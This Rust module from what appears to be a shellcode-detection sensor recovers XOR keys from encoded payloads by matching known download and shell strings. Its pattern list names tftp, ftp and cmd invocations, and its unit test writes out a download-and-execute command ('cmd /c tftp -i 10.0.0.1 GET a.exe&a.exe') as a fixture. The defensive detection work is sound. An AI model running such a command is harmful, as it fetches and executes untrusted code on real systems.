//! Key guessing from known plaintext, for encoded shellcode bodies whose
//! stub was not recognised.
//!
//! XOR with a fixed key keeps the XOR of neighbouring bytes: for a 1-byte
//! key `c[i] ^ c[i+1] == p[i] ^ p[i+1]`, for a 4-byte key `c[i] ^ c[i+4]
//! == p[i] ^ p[i+4]`. So one pass over the payload's difference sequence
//! per known plaintext (a download command, `cmd.exe`, a `push` of an API
//! hash) finds where it sits encoded under any key, and the key is then
//! one XOR away. The stretch around the hit is decoded; the caller reads
//! it (the sensor keeps a guess only when the stretch reads as shellcode).

use super::hashes::KNOWN;
use super::{DecoderKind, ShellcodeWork, MAX_BODY};

/// At most this many keys are tried per payload.
pub const MAX_GUESSES: usize = 4;
/// Hits looked at per plaintext.
const HITS_PER_TEXT: usize = 4;
/// The decoded stretch starts this far before the first hit.
const BACK: usize = 1024;

/// Text a download or shell body carries.
const TEXTS: [&[u8]; 7] = [
    b"tftp -i ",
    b"tftp.exe",
    b"echo open ",
    b"http://",
    b"ftp://",
    b"cmd /c ",
    b"cmd.exe",
];

/// A key found, aligned to payload offsets: byte `i` of the payload is
/// XORed with `key[i % key.len()]`.
#[derive(Clone, Debug, PartialEq, Eq)]
struct Guess {
    key: Vec<u8>,
    first_hit: usize,
}

/// A stretch of the payload decoded with a guessed key.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Guessed {
    /// Payload offset where the decoded stretch starts.
    pub start: usize,
    /// [`DecoderKind::GuessedXorByte`] or [`DecoderKind::GuessedXorDword`].
    pub decoder: DecoderKind,
    /// The key as met from `start` on.
    pub key: Vec<u8>,
    /// Payload offset of the first known plaintext found under the key.
    pub first_hit: usize,
    /// The decoded stretch (at most [`MAX_BODY`] bytes).
    pub body: Vec<u8>,
}

fn inside(covered: &[(usize, usize)], i: usize) -> bool {
    covered.iter().any(|&(a, b)| (a..b).contains(&i))
}

fn note(guesses: &mut Vec<Guess>, key: Vec<u8>, hit: usize) {
    if let Some(g) = guesses.iter_mut().find(|g| g.key == key) {
        g.first_hit = g.first_hit.min(hit);
    } else if guesses.len() < MAX_GUESSES {
        guesses.push(Guess {
            key,
            first_hit: hit,
        });
    }
}

/// Differences at distance `d` of `s`.
fn diffs(s: &[u8], d: usize) -> Vec<u8> {
    s.iter().zip(s.iter().skip(d)).map(|(a, b)| a ^ b).collect()
}

/// Stretches of `p` outside `covered` that a 1- or 4-byte XOR key turns
/// into known shellcode text or API-hash pushes (at most
/// [`MAX_GUESSES`]), decoded.
pub fn guess_keys(p: &[u8], covered: &[(usize, usize)], work: &mut ShellcodeWork) -> Vec<Guessed> {
    let mut texts: Vec<Vec<u8>> = TEXTS.iter().map(|t| t.to_vec()).collect();
    for (h, _) in KNOWN {
        let mut push = vec![0x68];
        push.extend_from_slice(&h.to_le_bytes());
        texts.push(push);
    }
    let mut guesses = Vec::new();
    for d in [1usize, 4] {
        if p.len() <= d {
            continue;
        }
        let pd = diffs(p, d);
        work.bytes_scanned += p.len() as u64;
        for t in texts.iter().filter(|t| t.len() >= d + 4) {
            let td = diffs(t, d);
            work.bytes_scanned += pd.len() as u64;
            let hits = memchr::memmem::find_iter(&pd, &td)
                .filter(|&i| !inside(covered, i))
                .take(HITS_PER_TEXT);
            for i in hits {
                let mut key = vec![0u8; d];
                for k in 0..d {
                    key[(i + k) % d] = p[i + k] ^ t[k];
                }
                let single = key.iter().all(|&b| b == key[0]);
                if single && (d == 4 || key[0] == 0) {
                    // Plain text, or a byte key (found by the first pass).
                    continue;
                }
                note(&mut guesses, key, i);
            }
        }
    }
    let mut out = Vec::new();
    for g in guesses {
        let start = g.first_hit.saturating_sub(BACK);
        let end = (start + MAX_BODY).min(p.len());
        let n = g.key.len();
        let body: Vec<u8> = (start..end).map(|i| p[i] ^ g.key[i % n]).collect();
        work.bytes_scanned += body.len() as u64;
        let key: Vec<u8> = (start..start + n).map(|i| g.key[i % n]).collect();
        out.push(Guessed {
            start,
            decoder: if n == 1 {
                DecoderKind::GuessedXorByte
            } else {
                DecoderKind::GuessedXorDword
            },
            key,
            first_hit: g.first_hit,
            body,
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn byte_and_dword_keys_from_a_download_command() {
        let text = b"junk\xff\xfe cmd /c tftp -i 10.0.0.1 GET a.exe&a.exe\0 more";
        let mut p = vec![0x41u8; 37];
        let at = p.len();
        p.extend(text.iter().map(|b| b ^ 0x5a));
        let got = guess_keys(&p, &[], &mut ShellcodeWork::default());
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].decoder, DecoderKind::GuessedXorByte);
        assert_eq!(got[0].key, vec![0x5a]);
        assert_eq!(&got[0].body[at..], &text[..]);
        // Covered already (a stub decoded it): not guessed again.
        assert!(guess_keys(&p, &[(at, p.len())], &mut ShellcodeWork::default()).is_empty());

        let key = [0x11u8, 0x22, 0x33, 0x44];
        let mut p = vec![0x41u8; 37];
        p.extend(text.iter().enumerate().map(|(i, b)| b ^ key[i % 4]));
        let got = guess_keys(&p, &[], &mut ShellcodeWork::default());
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].decoder, DecoderKind::GuessedXorDword);
        assert_eq!(got[0].start, 0);
        // Key as met from the stretch's start (offset 0): rotated by `at`.
        let rot: Vec<u8> = (0..4).map(|i| key[(i + 4 - at % 4) % 4]).collect();
        assert_eq!(got[0].key, rot);
        assert_eq!(&got[0].body[at..], &text[..]);
    }
}
